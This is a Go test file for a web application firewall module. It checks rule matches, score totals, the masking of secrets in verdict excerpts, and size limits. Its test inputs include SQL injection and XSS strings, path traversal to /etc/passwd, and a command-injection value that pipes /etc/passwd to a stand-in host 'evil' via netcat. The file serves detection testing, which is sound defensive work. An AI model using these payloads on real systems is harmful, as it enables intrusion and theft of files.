package waf

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/convosphere/gateway/modules/internal/reqctx"
)

func TestVerdictTellsWhatMatched(t *testing.T) {
	h := provision(t, &Handler{})
	o := do(t, h, request("POST", "/x", js, jsonText(sqli)))
	i := slices.IndexFunc(o.verdict.Matches, func(m reqctx.Match) bool { return m.Rule == 942100 })
	if i < 0 {
		t.Fatalf("%+v", o.verdict)
	}
	want := reqctx.Match{
		Rule: 942100, Message: "SQL Injection Attack Detected via libinjection", Severity: "critical", Score: 5,
		Variables: []string{"ARGS:json.text"}, Excerpt: "9' aa '9'='9' aaaaa aaaaaa aaaaaaaa aaaa aaaaa--",
	}
	if got := fmt.Sprintf("%+v", o.verdict.Matches[i]); got != fmt.Sprintf("%+v", want) {
		t.Errorf("got  %s\nwant %+v", got, want)
	}
	if len(o.verdict.Matches) != len(o.verdict.Rules) {
		t.Errorf("%+v", o.verdict)
	}
}

// What the rules added is what the Core Rule Set counted.
func TestScoresAddUp(t *testing.T) {
	h := provision(t, &Handler{Mode: Detect, DetectionParanoia: 4})
	for _, r := range []*http.Request{
		request("POST", "/x", js, jsonText(sqli)), request("POST", "/x", js, jsonText(xss)), request("GET", "/x?a="+url.QueryEscape(sqli)+"&b="+url.QueryEscape(sqli+xss), "", ""),
		request("GET", "/files/../../../../etc/passwd", "", ""), request("POST", "/x", form, "cmd="+url.QueryEscape("; cat /etc/passwd | nc evil 1")), request("TRACE", "/", "", ""),
	} {
		o, sum := do(t, h, r), 0
		for _, m := range o.verdict.Matches {
			sum += m.Score
		}
		if sum != o.verdict.Detection || o.verdict.Score > o.verdict.Detection || o.verdict.Detection == 0 {
			t.Errorf("%s: %d by rule, %+v", r.URL, sum, o.verdict)
		}
	}
}

// A secret never gets into a verdict, wherever it stands, beside an attack or as one.
func TestNoSecretInAVerdict(t *testing.T) {
	h := provision(t, &Handler{Mode: Detect, DetectionParanoia: 4})
	const planted = "Hunter2Planted" // and with an attack around it
	hostile := "' or 1=1-- " + planted + " <script>alert(1)</script> ../../etc/passwd ;cat /etc/passwd"
	names := []string{"password", "new_password", "user[passwd]", "token", "access_token", "secret", "client_secret", "code", "otp", "api_key", "pin", "session", "csrf", "text", "q"}
	var all []*http.Request
	for _, n := range names {
		body, err := json.Marshal(map[string]any{"user": map[string]string{n: hostile}})
		if err != nil {
			t.Fatal(err)
		}
		all = append(all,
			request("GET", "/x?"+url.QueryEscape(n)+"="+url.QueryEscape(hostile), "", ""),
			request("POST", "/x", form, url.QueryEscape(n)+"="+url.QueryEscape(hostile)),
			request("POST", "/x", form, url.QueryEscape(hostile)), // as a name
			request("POST", "/x", js, string(body)),
			request("POST", "/x", js, `{"`+planted+` or 1=1-- <script>":1}`),
			request("POST", "/x", "multipart/form-data; boundary=b0", multipartBody(n, hostile)),
			request("POST", "/x", "application/xml", "<m><"+"a>"+"<![CDATA["+hostile+"]]></a></m>"),
			request("POST", "/x", "application/unknown", hostile),
			request("GET", "/"+url.PathEscape(hostile), "", ""),
		)
	}
	for _, n := range []string{"Authorization", "Cookie", "X-Api-Key", "Referer", "User-Agent", "X-Forwarded-For", "Content-Type", "Accept", "X-Any"} {
		r := request("GET", "/", "", "")
		switch n {
		case "Cookie":
			r.Header.Set(n, "sid="+hostile)
		default:
			r.Header.Set(n, "Bearer "+hostile)
		}
		all = append(all, r)
	}
	shown := 0
	for _, r := range all {
		o := do(t, h, r)
		text := fmt.Sprintf("%+v", o.verdict)
		if strings.Contains(strings.ToLower(text), "hunter") || strings.Contains(strings.ToLower(text), "planted") {
			t.Errorf("%s %s %v: %s", r.Method, r.URL, r.Header, text)
		}
		for _, m := range o.verdict.Matches {
			if m.Excerpt != "" {
				shown++
			}
			for _, v := range m.Variables {
				if m.Excerpt != "" && regexp.MustCompile(`(?i)^(ARGS|REQUEST_HEADERS)\S*:.*(pass|token|secret|code|otp|pin|key|auth|session|csrf)`).MatchString(v) {
					t.Errorf("%d shows %s: %s", m.Rule, v, m.Excerpt)
				}
			}
		}
	}
	if shown == 0 {
		t.Error("no excerpt at all")
	}
}

func TestVerdictIsBounded(t *testing.T) {
	h := provision(t, &Handler{Mode: Detect, DetectionParanoia: 4})
	many := new(strings.Builder)
	for i := range 100 {
		fmt.Fprintf(many, "%s%d=%s&", strings.Repeat("n", 50), i, url.QueryEscape(sqli+xss))
	}
	o := do(t, h, request("POST", "/x?"+url.QueryEscape(strings.Repeat("\x01long name ", 50))+"="+url.QueryEscape(xss), form, many.String()))
	bytes := 0
	if len(o.verdict.Matches) == 0 || len(o.verdict.Matches) > maxRules {
		t.Fatalf("%d matches", len(o.verdict.Matches))
	}
	for _, m := range o.verdict.Matches {
		if len(m.Variables) > maxVariables || len(m.Excerpt) > maxExcerpt || len(m.Message) > maxMessage {
			t.Errorf("%+v", m)
		}
		for _, v := range m.Variables {
			bytes += len(v)
			if len(v) > maxName || strings.ContainsFunc(v, unicode.IsControl) {
				t.Errorf("name %q", v)
			}
		}
	}
	if bytes > maxNames {
		t.Errorf("%d bytes of names", bytes)
	}
}

func FuzzExcerpt(f *testing.F) {
	f.Add("1' or 1=1", "Matched Data: or found within ARGS:q: 1' or 1=1", "json.text")
	f.Add(strings.Repeat("é", 100), "Matched Data: \xff found within", "\x00")
	f.Fuzz(func(t *testing.T, value, data, key string) {
		for _, s := range []string{excerpt(value, data), shape(value)} {
			if i := strings.IndexFunc(s, func(c rune) bool {
				return unicode.IsLetter(c) && c != 'a' || unicode.IsDigit(c) && c != '9' || unicode.IsControl(c)
			}); i >= 0 {
				t.Fatalf("%q shows %q", value, s)
			}
		}
		if n := len(excerpt(value, data)); n > maxExcerpt {
			t.Fatalf("%d bytes", n)
		}
		name := variable("ARGS", key)
		if len(name) > maxName || strings.ContainsFunc(name, unicode.IsControl) || utf8.ValidString(key) && !utf8.ValidString(name) {
			t.Fatalf("name %q of %q", name, key)
		}
	})
}

func TestRuleHitsAreBounded(t *testing.T) {
	h := provision(t, &Handler{})
	known, rest := counter(t, ruleHits.WithLabelValues("942100")), counter(t, ruleHits.WithLabelValues(other))
	do(t, h, request("POST", "/x", js, jsonText(sqli)))
	countRules([]int{7, 8}, h.rules.ids)
	if got := counter(t, ruleHits.WithLabelValues("942100")) - known; got != 1 {
		t.Errorf("942100 was counted %v times", got)
	}
	if got := counter(t, ruleHits.WithLabelValues(other)) - rest; got != 2 {
		t.Errorf("unknown rules were counted %v times", got)
	}
	if _, ok := h.rules.ids[942100]; !ok || len(h.rules.ids) < 400 {
		t.Errorf("%d ids", len(h.rules.ids))
	}
}

func TestPhasesAreMeasured(t *testing.T) {
	samples := func(phase string) uint64 { return histogram(t, phases.WithLabelValues(phase)) }
	for _, off := range []bool{true, false} {
		h := provision(t, &Handler{ScreenOff: off})
		screen, headers, body := samples(phaseScreen), samples(phaseHeaders), samples(phaseBody)
		do(t, h, request("POST", "/x", js, jsonText("hello")))
		do(t, h, request("GET", "/x", "", ""))
		do(t, h, request("POST", "/x", js, jsonText(sqli)))
		screen, headers, body = samples(phaseScreen)-screen, samples(phaseHeaders)-headers, samples(phaseBody)-body
		if off && (screen != 0 || headers != 3 || body != 3) || !off && (screen != 3 || headers != 1 || body != 1) {
			t.Errorf("screen off %v: %d, %d and %d samples", off, screen, headers, body)
		}
	}
}
